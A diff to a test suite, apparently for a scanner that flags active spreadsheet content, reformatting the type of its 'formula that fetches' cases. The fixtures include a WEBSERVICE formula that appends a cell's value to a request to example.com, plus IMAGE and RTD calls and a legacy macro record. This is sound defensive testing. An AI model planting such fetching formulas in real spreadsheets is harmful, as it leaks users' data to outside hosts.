@@ -161,7 +161,11 @@ describe('a document that acts', () => {
       xlsx(related('externalLinkPath', 'https://example.com/a.xlsx', 'TargetMode="External"')),
     ],
     ...['WEBSERVICE("http://example.com/?"&amp;A2)', 'IMAGE("http://a.example")', 'RTD("a",,"b")'].map(
-      (formula) => ['a formula that fetches', 'a.xlsx', xlsx('', `<c r="A1"><f>_xlfn.${formula}</f></c>`)] as const,
+      (formula): [string, string, Buffer] => [
+        'a formula that fetches',
+        'a.xlsx',
+        xlsx('', `<c r="A1"><f>_xlfn.${formula}</f></c>`),
+      ],
     ),
     ['a query', 'a.xlsx', xlsx(related('queryTable', '../queryTables/a.xml'))],
     ['macros of before Visual Basic', 'a.xls', compound({ '/Workbook': record(0x85, [0, 0, 0, 0, 0, 1, 1, 0, 65]) })],
